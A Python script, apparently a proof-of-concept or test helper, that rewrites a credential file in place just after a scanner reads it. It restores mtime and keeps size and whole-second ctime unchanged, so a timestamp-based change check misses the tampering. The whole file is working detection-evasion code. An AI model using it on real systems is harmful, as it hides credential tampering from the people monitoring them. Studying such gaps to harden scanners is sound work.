"""A container's rewrite of its own credential file that no stamp shows: it watches the file's
link count (2 while the scanner's private hard link exists) and ctime, and right after the
scanner's read rewrites the file in place with LEAKFILE's bytes (the same size), then puts the
mtime back, all within the second of that read, so size, mtime and (whole-second) ctime stay as
the scanner last saw them. A read that ends late in its second is let go (the write could
land in the next second); the next read is used instead.

Usage: inplace_rewriter.py PATH LEAKFILE SECONDS
Prints "hit <ms since epoch of the write>" once the unseen rewrite is done (exit 0), "miss"
when the second turned over during it after all (exit 2), or "none" when no read came in
SECONDS (exit 1).
"""

import os
import sys
import time

path, leak_file, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
with open(leak_file, "rb") as f:
    leak = f.read()
deadline = time.time() + seconds
seen = os.lstat(path)
if seen.st_size != len(leak):
    sys.exit(f"the leak has {len(leak)} bytes, the file {seen.st_size}")

while time.time() < deadline:
    now = os.lstat(path)
    if now.st_nlink < 2 and now.st_ctime_ns == seen.st_ctime_ns:
        time.sleep(0.001)
        continue
    # The scanner is reading (its link exists) or just read (the ctime moved): wait until
    # its private link is gone, then act at once.
    while os.lstat(path).st_nlink >= 2 and time.time() < deadline:
        pass
    before = os.lstat(path)
    seen = before
    if time.time() % 1 > 0.8:
        continue  # too close to the next second: wait for the next read
    fd = os.open(path, os.O_WRONLY)
    try:
        os.pwrite(fd, leak, 0)
    finally:
        os.close(fd)
    written = time.time()
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    after = os.lstat(path)
    if (after.st_ctime_ns // 10**9 == before.st_ctime_ns // 10**9
            and after.st_size == before.st_size
            and after.st_mtime_ns == before.st_mtime_ns
            and after.st_ino == before.st_ino
            and after.st_nlink == before.st_nlink):
        print(f"hit {int(written * 1000)}", flush=True)
        sys.exit(0)
    print("miss (the second turned over during the rewrite)", flush=True)
    sys.exit(2)
print("none", flush=True)
sys.exit(1)
